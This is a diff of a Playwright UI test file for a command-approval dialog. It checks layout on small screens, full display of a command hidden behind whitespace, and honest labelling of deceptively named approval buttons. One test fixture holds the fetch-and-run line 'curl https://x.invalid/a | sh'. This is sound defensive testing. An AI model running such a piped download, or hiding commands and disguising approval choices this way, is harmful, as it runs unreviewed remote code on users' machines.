@@ -1,5 +1,5 @@
-// A question as a person sees it before they answer: nothing hides, and on a low screen nothing is
-// covered. ABIDE_SHOTS names a folder for pictures.
+// The display of a question: nothing is hidden, and on a low screen nothing is covered. ABIDE_SHOTS
+// names a folder for screenshots.
 import { mkdirSync } from 'node:fs'
 import { join } from 'node:path'
 import type { Page } from 'playwright-core'
@@ -64,7 +64,7 @@ describe('a question', () => {
         await control.click({ trial: true })
       }
       for (const option of await sheet.locator('[data-option]').all()) {
-        await option.click({ trial: true }) // scrolls to it, and nothing is over it
+        await option.click({ trial: true }) // scrolls to the option; fails if another element covers it
         const box = (await option.boundingBox())!
         expect(box.x).toBeGreaterThanOrEqual(top.x)
         expect(box.x + box.width).toBeLessThanOrEqual(top.x + top.width)
@@ -78,7 +78,7 @@ describe('a question', () => {
       const page = await show('question, four answers', size)
       const options = page.locator('[data-option]')
       expect(await options.count()).toBe(4)
-      // Not scrolled to: as they are when the question comes.
+      // Measured without scrolling, as when the question appears.
       const reached = await options.evaluateAll((all) =>
         all.map((option) => {
           const box = option.getBoundingClientRect()
@@ -101,7 +101,7 @@ describe('a question', () => {
     },
   )
 
-  test('shows three lines of its command that nothing covers above the keys of a phone', async () => {
+  test('shows three uncovered lines of its command above a phone’s on-screen keyboard', async () => {
     const page = await show('question, four answers', { width: 390, height: 420 })
     const what = page.getByRole('alertdialog').locator('.what')
     const seen = await what.evaluate((box) => {
@@ -110,7 +110,7 @@ describe('a question', () => {
       const command = document.createRange()
       command.selectNodeContents(box.querySelector('pre')!)
       const tops = [...new Set([...command.getClientRects()].map((rect) => Math.round(rect.bottom)))]
-      // What fades is not read.
+      // The last line fades out, so it does not count.
       return tops.filter((at) => at > top && at <= bottom - line && at < innerHeight).length
     })
     expect(seen).toBeGreaterThanOrEqual(3)
@@ -134,13 +134,13 @@ describe('a question', () => {
       )
       expect(boxes.length).toBe(15)
       expect(boxes.every((box) => box.inside)).toBe(true)
-      // Each long one has a row of its own.
+      // Each long option has its own row.
       for (let i = 2; i < boxes.length; i++) expect(boxes[i]!.top).toBeGreaterThan(boxes[i - 1]!.bottom)
       await options.last().click({ trial: true })
     },
   )
 
-  test('shows the whole of a command that hides behind room', async () => {
+  test('shows the whole of a command that is hidden behind whitespace', async () => {
     const page = await show('question, deceiving')
     const sheet = page.getByRole('alertdialog', { name: 'Say ok' })
     await sheet.getByText('61 lines').waitFor()
@@ -151,7 +151,7 @@ describe('a question', () => {
     expect(await command.innerText()).toContain('curl https://x.invalid/a | sh')
   })
 
-  test('that is answered with something missing says what, goes there, and is content once it is filled in', async () => {
+  test('answered with a missing field names the field, moves the focus there, and accepts it once filled in', async () => {
     const page = await show('question with a form', phone)
     const sheet = page.getByRole('alertdialog')
     expect(await sheet.locator('kbd').count()).toBe(0) // letters are for words here
@@ -168,7 +168,7 @@ describe('a question', () => {
     await until('the words gone', async () => (await needed.count()) === before - 1)
   })
 
-  test('says what its answers do, whatever they are called', async () => {
+  test('shows the effect of its options, whatever their names', async () => {
     const page = await show('question, deceiving')
     for (const name of ['Allow once: “Reject”', 'Always allow', 'Reject', 'Other answer: “Deny”'])
       await page.getByRole('button', { name, exact: true }).waitFor()
@@ -177,7 +177,7 @@ describe('a question', () => {
     await page.getByRole('button', { name: 'Allow in this session: “Reject”', exact: true }).waitFor()
   })
 
-  test('offers to be remembered only where it is exact', async () => {
+  test('offers to remember an answer only if the request is exact', async () => {
     const exact = await show('question, deceiving')
     expect(await exact.locator('[data-remember]').count()).toBe(1)
     const vague = await show('question, vague')
